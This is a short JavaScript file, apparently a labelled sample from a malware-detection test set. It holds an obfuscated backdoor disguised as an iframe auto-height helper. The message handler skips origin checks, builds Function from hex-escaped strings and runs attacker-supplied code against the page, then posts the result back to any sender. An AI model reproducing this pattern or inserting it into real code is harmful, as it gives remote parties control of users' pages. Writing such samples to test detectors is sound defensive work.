// expect: malicious
// source: blind set 22 (postmessage-command-backdoor): an iframe auto-height child script whose message handler runs
// the `p` field of a message (keyed by a hash, no origin check) through Function, reached as `[][k][k]` with the key
// picked from a hex-escaped string array; the result is posted back to whoever sent it.
var keys = ["\x69\x61\x68\x3a\x65\x78\x74", "\x63\x6f\x6e\x73\x74\x72\x75\x63\x74\x6f\x72"];
function hash(s) { var h = 0; for (var i = 0; i < s.length; i++) h = (h * 31 + s.charCodeAt(i)) >>> 0; return h; }
function onMessage(ev) {
  var d = ev.data;
  if (d && d.type === keys[0] && hash(d.k || '') === 0x5a1e77b3) {
    var F = [][keys[1]][keys[1]];
    var r = F('w', 'd', d.p)(window, document);
    ev.source.postMessage({ type: 'iah:trace', r: String(r) }, '*');
  }
}
window.addEventListener('message', onMessage);
